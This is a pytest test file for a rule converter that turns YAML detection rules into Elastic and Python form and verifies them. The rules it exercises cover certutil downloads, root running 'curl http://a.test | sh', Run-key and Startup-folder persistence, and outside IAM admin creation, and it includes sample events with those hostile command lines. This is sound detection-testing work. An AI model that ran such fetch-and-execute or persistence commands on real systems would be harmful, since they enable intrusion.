"""A rule on each log source goes from YAML to Elastic and Python and is read back; a wrong output is caught."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from converter.cli import cli

HEAD = """title: A rule
id: 6d1f7c0e-3a0f-4b27-9d0e-5b1d6c2f8a09
status: test
description: A rule of the test.
author: the project
date: 2026-11-24
license: Apache-2.0
level: medium
"""
RULES = {
    "windows_process_creation": r"""logsource: {category: process_creation, product: windows}
detection:
  selection: {Image|endswith: '\certutil.exe', CommandLine|contains|all: [' -urlcache ', http], IntegrityLevel: High}
  parent: {ParentProcessId: 4}
  condition: selection and not parent
x-converter:
  tests:
    - {name: a download, match: true, event:
       &e {Image: 'C:\Windows\System32\CertUtil.exe', CommandLine: 'certutil -URLcache x http://a.test',
       IntegrityLevel: High, ParentProcessId: '7'}}
    - {name: by the system, match: false, event: {<<: *e, ParentProcessId: '4'}}
    - {name: elsewhere, match: false, event: {<<: *e, Image: 'C:\x.exe'}}
    - {name: medium, match: false, event: {<<: *e, IntegrityLevel: Medium}}
""",
    "linux_process_creation": r"""logsource: {category: process_creation, product: linux}
detection:
  selection: {Image|endswith: /curl, CommandLine|contains: '| sh', User: root}
  condition: selection
x-converter:
  tests:
    - {name: to a shell, match: true, event: &e {Image: /usr/bin/curl, CommandLine: 'curl http://a.test | sh', User: root}}
    - {name: to a file, match: false, event: {<<: *e, CommandLine: curl http://a.test}}
    - {name: another user, match: false, event: {<<: *e, User: nobody}}
""",
    "windows_registry_set": r"""logsource: {category: registry_set, product: windows}
detection:
  selection: {TargetObject|contains: '\Windows\CurrentVersion\Run\', Details|contains: '\Temp\'}
  installer: {Image|endswith: '\msiexec.exe'}
  condition: selection and not installer
x-converter:
  tests:
    - {name: from temp, match: true, event:
       &e {TargetObject: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x', Details: 'C:\Temp\x.exe',
       Image: 'C:\Windows\reg.exe'}}
    - {name: installed, match: false, event: {<<: *e, Image: 'C:\Windows\msiexec.exe'}}
    - {name: a service, match: false, event: {<<: *e, TargetObject: 'HKLM\System\CurrentControlSet\Services\x'}}
    - {name: a number, match: false, event: {<<: *e, Details: DWORD (0x00000001)}}
""",
    "windows_file_event": r"""logsource: {category: file_event, product: windows}
detection:
  selection: {TargetFilename|endswith: [.exe, .lnk], TargetFilename|contains: '\Startup\'}
  condition: selection
x-converter:
  tests:
    - {name: a program, match: true, event: &e {TargetFilename: 'C:\a\Startup\x.EXE', Image: 'C:\b.exe'}}
    - {name: a link, match: true, event: {<<: *e, TargetFilename: 'C:\a\Startup\x.lnk'}}
    - {name: elsewhere, match: false, event: {<<: *e, TargetFilename: 'C:\a\x.lnk'}}
""",
    "aws_cloudtrail": r"""logsource: {product: aws, service: cloudtrail}
detection:
  selection: {eventSource: iam.amazonaws.com, eventName: CreateUser, userIdentity.type: IAMUser, requestParameters.path: /admin/}
  inside: {sourceIPAddress|cidr: 10.0.0.0/8}
  condition: selection and not inside
x-converter:
  tests:
    - {name: made, match: true, event:
       &e {eventSource: iam.amazonaws.com, eventName: CreateUser, userIdentity: {type: IAMUser},
       requestParameters: {path: /admin/}, sourceIPAddress: 1.2.3.4}}
    - {name: by a service, match: true, event: {<<: *e, sourceIPAddress: AWS Internal}}
    - {name: from inside, match: false, event: {<<: *e, sourceIPAddress: 10.1.2.3}}
    - {name: by root, match: false, event: {<<: *e, userIdentity: {type: Root}}}
    - {name: on another path, match: false, event: {<<: *e, requestParameters: {path: /}}}
""",
}


@pytest.mark.parametrize("source", RULES)
def test_a_rule_is_exact_and_means_what_it_says(source: str, tmp_path: Path) -> None:
    """Both outputs are declared exact and answer every event and variant as the rule does."""
    rules, output = tmp_path / "rules", tmp_path / "output"
    rules.mkdir()
    (rules / "rule.yml").write_text(HEAD + RULES[source], encoding="utf-8")
    arguments = ["-t", "elastic", "-t", "python", "-o", str(output), str(rules)]
    built = CliRunner().invoke(cli, ["build", *arguments])
    assert built.exit_code == 0, built.output
    verified = CliRunner().invoke(cli, ["verify", "--engine", "reader", *arguments])
    assert verified.exit_code == 0, verified.output
    assert verified.output.count("exact") == 2
    artifact = output / "elastic" / "rule.toml"
    artifact.write_text(artifact.read_text(encoding="utf-8").replace("not (", "("), encoding="utf-8", newline="")
    if " and not " in RULES[source]:
        assert "misses an event" in CliRunner().invoke(cli, ["verify", "--engine", "reader", *arguments]).output


def test_a_rule_in_elastics_names_is_not_seen_through_the_log_sources_view(tmp_path: Path) -> None:
    """Its events are documents already; the view would take them apart and refute a right output."""
    (tmp_path / "rule.yml").write_text(
        HEAD
        + """taxonomy: ecs
logsource: {category: process_creation, product: windows}
detection:
  selection: {process.name: a.exe}
  condition: selection
x-converter:
  tests:
    - {name: a, match: true, event: {process: {name: a.exe}}}
    - {name: b, match: false, event: {process: {name: b.exe}}}
""",
        encoding="utf-8",
    )
    arguments = ["-t", "elastic", "-o", str(tmp_path / "output"), str(tmp_path / "rule.yml")]
    assert CliRunner().invoke(cli, ["build", "--allow", "narrower", *arguments]).exit_code == 0
    verified = CliRunner().invoke(cli, ["verify", *arguments])
    assert (verified.exit_code, "declared" in verified.output) == (0, True), verified.output
